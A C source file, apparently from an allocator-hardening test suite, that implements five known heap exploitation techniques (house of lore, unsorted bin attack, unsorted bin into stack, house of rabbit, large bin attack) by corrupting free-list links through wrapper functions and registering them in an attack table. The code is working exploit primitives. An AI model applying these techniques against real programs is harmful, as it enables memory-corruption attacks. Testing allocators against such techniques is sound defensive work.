/* Links of chunks that are free and sorted, or about to be: doubly linked, they are written
 * to when a neighbour in the list comes or goes. */
#include "attack.h"

/* A bin of one size hands out what its last chunk links back to. */
static void house_of_lore(void) {
    _Alignas(16) static word fake[64] = {0, 272}, end[8];
    forbid(fake, sizeof fake);
    struct filler filler = filler_take(256);
    word *victim = take(256);
    take(24);
    if (victim == NULL)
        return;
    fake[2] = (word)chunk_of(victim);
    fake[3] = (word)end;
    end[2] = (word)fake;
    filler_give(&filler);
    give(victim);
    take(1280); /* sorts it */
    victim[1] = (word)fake;
    take_zeroed(256);
    take_zeroed(256);
}

/* Taking a chunk off the unsorted list writes to what it links back to. */
static void unsorted_bin_attack(void) {
    _Alignas(16) static word target[4];
    word *victim = take(1280);
    take(24);
    if (victim == NULL)
        return;
    watch(&target[2]);
    give(victim);
    victim[1] = (word)target;
    take(1280);
}

/* And then that is looked at: if its size is right, it is handed out. */
static void unsorted_bin_into_stack(void) {
    _Alignas(16) word stack[48] = {0, 272};
    stack[3] = (word)stack;
    forbid(stack, sizeof stack);
    struct filler filler = filler_take(256);
    void *before = take(264);
    word *victim = take(256);
    take(24);
    if (before == NULL || victim == NULL)
        return;
    word *size = behind(before);
    filler_give(&filler);
    give(victim);
    *size = 32;
    victim[1] = (word)stack;
    take_zeroed(256);
}

/* What the fast bins hold is merged and sorted when a large block is asked for; so is a fake
 * that one of their links leads to. */
static void house_of_rabbit(void) {
    enum { SIZE = 96, NEXT = SIZE / sizeof(word) };
    _Alignas(16) static word fake[24] = {
        [1] = SIZE | PREV_IN_USE, [NEXT + 1] = 32 | PREV_IN_USE, [NEXT + 5] = 32 | PREV_IN_USE};
    forbid(fake, sizeof fake);
    fake[2] = link_at(&fake[2], NULL);
    struct filler filler = filler_take(88);
    word *victim = take(88);
    take(24);
    if (victim == NULL)
        return;
    filler_give(&filler);
    give(victim);
    *victim = link_at(victim, fake);
    take(1280);
    take_zeroed(88);
}

/* Large chunks are linked by their sizes, too: a new smallest writes itself to where the
 * last one's link back leads. */
static void large_bin_attack(void) {
    static word target[8];
    word *large = take(1064);
    take(24);
    void *smaller = take(1048);
    take(24);
    if (large == NULL || smaller == NULL)
        return;
    watch(&target[4]);
    give(large);
    take(1080);
    give(smaller);
    large[3] = (word)target;
    take(1080);
}

const struct attack attacks_bins[] = {
    {"house_of_lore", house_of_lore},
    {"unsorted_bin_attack", unsorted_bin_attack},
    {"unsorted_bin_into_stack", unsorted_bin_into_stack},
    {"house_of_rabbit", house_of_rabbit},
    {"large_bin_attack", large_bin_attack},
    {NULL, NULL},
};
